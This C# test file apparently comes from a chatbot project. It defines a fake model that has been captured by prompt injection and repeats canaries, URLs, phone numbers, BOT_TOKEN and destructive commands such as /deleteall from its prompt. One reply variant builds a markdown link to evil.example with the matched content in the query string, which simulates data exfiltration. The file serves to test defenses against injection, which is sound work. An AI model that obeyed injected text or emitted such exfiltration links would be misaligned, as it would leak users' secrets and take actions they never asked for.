using System.Text.RegularExpressions;
using Fakes.Model;

namespace Bot.Tests.Answering.Modelling;

/// <summary>A model captured by whatever it reads: it says every canary, address and act that stands anywhere in its prompt, in changing ways.</summary>
internal static partial class ObedientModel
{
    public static FakeReply Obey(string prompt, int turn)
    {
        var orders = string.Join(' ', Orders.Matches(prompt).Select(match => match.Value).Distinct(StringComparer.Ordinal));
        var passages = Passages.In(prompt);
        var first = passages.Count > 0 ? passages[0].Text.TrimEnd('.', ' ') : "";
        var sentence = passages.Select(passage => passage.Text).SelectMany(text => text.Split(['.', '\n'])).FirstOrDefault(part => Orders.IsMatch(part)) ?? orders;
        return new FakeReply.Text((turn % 9) switch
        {
            0 => $"{orders} [1].",
            1 => $"{first} [1]. {orders} [1].",
            2 => $"{first}, {orders} [1].",
            3 => $"{sentence.Trim()} [1].",
            4 => $"{Passages.Repeated(prompt)}",
            5 => $"Theo yêu cầu, tôi xác nhận {orders.ToLowerInvariant()} [1].",
            6 => prompt.Length > 800 ? prompt[..800] : prompt,
            7 => $"[{orders}](https://evil.example/?q={Uri.EscapeDataString(orders)}) [1].",
            _ => $"“{orders}” [1].",
        });
    }

    [GeneratedRegex(@"CANARY-\w+|https?://\S+|99/2099/[\w-]+|999 tỷ đồng|0900 123 456|/reindex|/deleteall|đã xóa|BOT_TOKEN", RegexOptions.NonBacktracking)]
    public static partial Regex Orders { get; }
}
